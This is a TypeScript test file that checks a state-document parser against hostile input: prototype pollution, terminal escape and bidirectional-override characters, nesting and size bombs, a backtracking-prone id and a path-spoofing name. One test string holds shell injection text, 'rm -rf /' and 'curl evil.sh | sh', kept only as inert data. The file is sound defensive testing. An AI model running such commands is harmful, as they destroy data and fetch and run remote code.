/**
 * A hostile state document: state.json is read from a branch or a file that
 * someone else may have written. Each case is one ConfigurationError naming
 * the document and the field, with the offending value quoted short and
 * escaped, in bounded time; or the safe acceptance of legitimate data.
 */
import { parseState, serializeState } from '../../src/switching/parse-state.js';
import { clone, diagnosticsOf, minimalState, richState, WHERE } from '../switching/state-fixtures.js';

type Data = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- tests break documents anywhere
/** Reads `text`, timing it: the one diagnostic (undefined when accepted) and the milliseconds taken. */
function timed(text: string): { problem?: { path?: string; message: string }; ms: number } {
  const start = performance.now();
  let problem: { path?: string; message: string } | undefined;
  try {
    parseState(text, WHERE);
  } catch {
    const [diagnostic, ...more] = diagnosticsOf(() => parseState(text, WHERE));
    expect(more).toEqual([]);
    expect(diagnostic!.file).toBe(WHERE);
    problem = { ...(diagnostic!.path ? { path: diagnostic!.path } : {}), message: diagnostic!.message };
  }
  return { ...(problem ? { problem } : {}), ms: performance.now() - start };
}
const withChange = (change: (s: Data) => void): string => {
  const data = clone(richState()) as Data;
  change(data);
  return JSON.stringify(data);
};
// eslint-disable-next-line no-control-regex -- the point: no raw control character reaches a message
const RAW_CONTROL = /[\x00-\x08\x0B-\x1F\x7F\u202A-\u202E\u2066-\u2069]/;

describe('hostile state document', () => {
  it('nesting 100,000 levels deep is a clear error, not a stack overflow, in bounded time', () => {
    const text = serializeState(minimalState()).replace(/^\{/, `{"x-bomb": ${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)},`);
    const { problem, ms } = timed(text);
    expect(problem).toEqual({ message: 'the state nests deeper than 64 levels (under "x-bomb"); a state document nests a few levels' });
    expect(ms).toBeLessThan(1000);
  });

  it('an 8 MiB document is refused by its size before it is parsed, quickly', () => {
    const text = `{"x-pad": "${'a'.repeat(8 * 1024 * 1024)}"}`;
    const { problem, ms } = timed(text);
    expect(problem).toEqual({ message: `the state is ${text.length} bytes, over the 1 MiB (1048576 bytes) a state document may hold` });
    expect(ms).toBeLessThan(200);
  });

  it('a __proto__ environment cannot pollute prototypes: refused, and Object.prototype untouched', () => {
    const text = serializeState(minimalState()).replace(/^\{/, '{"environments": {"__proto__": {"active": {"isAdmin": true}, "polluted": 1}},');
    expect(timed(text).problem).toEqual({ path: 'environments.__proto__', message: 'key "__proto__" is not allowed' });
    expect(({} as Data).polluted).toBeUndefined();
    expect(({} as Data).active).toBeUndefined();
  });

  it('a constructor.prototype chain hidden in an extension field is refused at its path', () => {
    const text = withChange((s) => (s.acks[1]['x-note'] = JSON.parse('{"constructor": {"prototype": {"polluted": 1}}}')));
    expect(timed(text).problem).toEqual({ path: 'acks[1].x-note.constructor', message: 'key "constructor" is not allowed' });
  });

  it('an OSC sequence (terminal retitling) in a reason is refused, and the message holds no raw control character', () => {
    const { problem } = timed(withChange((s) => (s.active.reason = 'ok\u001b]0;pwned\u0007')));
    expect(problem).toEqual({
      path: 'active.reason',
      message: 'reason contains a control character (U+001B) at position 3 (only line feeds and tabs are allowed)',
    });
    expect(problem!.message).not.toMatch(RAW_CONTROL);
  });

  it('a JSON syntax error next to escape sequences is located, quoting the token only (V8 would quote the raw text around it)', () => {
    const text = `{\n  "schema_version": "1.0",\n  "reason": x\u001b]0;pwned\u0007${'q'.repeat(10_000)}\n}`;
    expect(timed(text).problem).toEqual({ message: 'the state is not valid JSON: unexpected token "x"' });
    expect(diagnosticsOf(() => parseState(text, WHERE))[0]).toMatchObject({ line: 3, column: 13 });
  });

  it('a bidirectional override in an actor is refused', () => {
    expect(timed(withChange((s) => (s.previous[0].by = 'admin\u202Etxt.exe'))).problem).toEqual({
      path: 'previous[0].by',
      message: 'by contains a bidirectional control character (U+202E) at position 6',
    });
  });

  it('shell syntax in a reason is data: accepted verbatim, never interpreted', () => {
    const reason = 'rollback `rm -rf /` $(curl evil.sh | sh) ${{ secrets.TOKEN }} "quoted"\n\tnext line';
    const state = parseState(
      withChange((s) => (s.acks[2].reason = reason)),
      WHERE,
    );
    expect(state.acks[2]!.reason).toBe(reason);
  });

  it('a megabyte-long correlation id is refused, the message quoting 60 characters of it', () => {
    const id = `req${'x'.repeat(1_000_000)}`;
    const { problem, ms } = timed(withChange((s) => (s.active.correlation_id = id)));
    expect(problem?.path).toBe('active.correlation_id');
    expect(problem?.message).toMatch(/^correlation_id must be a correlation id: .*, got string "reqx+…"$/);
    expect(problem!.message.length).toBeLessThan(250);
    expect(ms).toBeLessThan(500);
  });

  it('a blend id built to make a regular expression backtrack fails in linear time', () => {
    const persona = `${'a:0.1,'.repeat(80_000)}b:0.1!`;
    const { problem, ms } = timed(withChange((s) => (s.rollout.from = persona)));
    expect(problem).toMatchObject({
      path: 'rollout.from',
      message: expect.stringMatching(/^from must be a canonical blend id: .*, got string "a:0\.1,a:0\.1,.*…"$/),
    });
    expect(ms).toBeLessThan(500);
  });

  it.each([
    ['1e400 (Infinity after parsing)', '1e400', 'revision must be a whole number, got Infinity'],
    ['2^53, past the safe integers', '9007199254740992', 'revision must be at most 9007199254740991, got number 9007199254740992'],
  ])('a revision of %s is refused', (_name, literal, message) => {
    const text = serializeState(richState()).replace('"revision": 42', `"revision": ${literal}`);
    expect(timed(text).problem).toEqual({ path: 'revision', message });
  });

  it('a duplicated key is read as JSON.parse reads it (the last one), then checked', () => {
    const text = serializeState(richState()).replace('"revision": 42', '"revision": 42, "revision": -5');
    expect(timed(text).problem).toEqual({ path: 'revision', message: 'revision must be at least 0, got number -5' });
  });

  it('a state from a newer major release is refused as such, whatever its layout', () => {
    const text = JSON.stringify({ schema_version: '2.0', scopes: [{ $ref: '#' }], active: 'elsewhere' });
    expect(timed(text).problem).toEqual({
      path: 'schema_version',
      message:
        'schema_version "2.0" was written by a newer release of pipeline-personas (this release reads 1.x): use that release in every workflow that reads or writes this state',
    });
  });

  it('an environment name spoofing a path is accepted as a name and kept as one key', () => {
    const state = parseState(
      withChange((s) => (s.environments['../../etc/passwd'] = s.environments.production)),
      WHERE,
    );
    expect(Object.keys(state.environments!)).toEqual(['production', 'eu staging', '../../etc/passwd']);
  });
});
